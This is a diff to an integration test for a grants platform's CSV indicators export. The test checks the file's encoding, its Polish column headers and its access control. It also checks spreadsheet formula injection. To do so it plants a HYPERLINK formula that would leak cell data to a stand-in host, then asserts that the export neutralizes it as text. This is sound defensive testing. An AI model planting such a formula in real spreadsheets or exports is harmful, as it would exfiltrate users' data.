@@ -480,14 +480,43 @@ describe('grants: from a formally accepted application to a settled grant', () =
     expect(
       value(mine.counties.find((c: any) => c.county === '1462').indicators, 'jobsKept').actual,
     ).toBe(0);
-    const csv = await platform.api.call('GET', '/api/indicators?format=csv', {
-      token: operator.token,
+    // a name a spreadsheet would run as a formula (typed by staff here: the indicators carry no
+    // applicant's text) comes out of the CSV as text
+    const formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"Kliknij")';
+    const injecting = await platform.api.post(
+      '/api/programmes',
+      {
+        name: formula,
+        counties: ['1412'],
+        yearlyBudgets: [],
+        targets: {
+          groupsSupported: 1,
+          enterprisesStrengthened: 1,
+          enterprisesCreated: 1,
+          jobsCreated: 1,
+        },
+      },
+      operator.token,
+    );
+    expect(injecting.status).toBe(201);
+    const csv = await fetch(`${platform.api.url}/api/indicators?format=csv`, {
+      headers: { authorization: `Bearer ${operator.token}` },
     });
-    const rows = parse(csv.body as string, { columns: true });
-    expect(rows.find((r: any) => r.indicator === 'moneyPaid' && r.county === '')).toMatchObject({
-      actual: '220170.00',
-      programme: 'OWES Płock',
+    const bytes = Buffer.from(await csv.arrayBuffer());
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const text = bytes.subarray(3).toString('utf8');
+    expect(text.split('\r\n')[0]).toBe(
+      'Program,Kod powiatu (TERYT),Powiat,Wskaźnik,Nazwa wskaźnika,Wartość,Wartość docelowa',
+    );
+    const rows = parse(text, { columns: true });
+    expect(
+      rows.find((r: any) => r['Wskaźnik'] === 'moneyPaid' && r['Kod powiatu (TERYT)'] === ''),
+    ).toMatchObject({
+      Wartość: '220170.00',
+      Program: 'OWES Płock',
     });
+    expect(rows.some((r: any) => r.Program === `'${formula}`)).toBe(true);
+    expect(rows.some((r: any) => r.Program === formula)).toBe(false);
     expect((await platform.api.get('/api/indicators?format=xml', operator.token)).status).toBe(400);
     expect((await platform.api.get('/api/indicators', applicant.token)).status).toBe(403);
   });
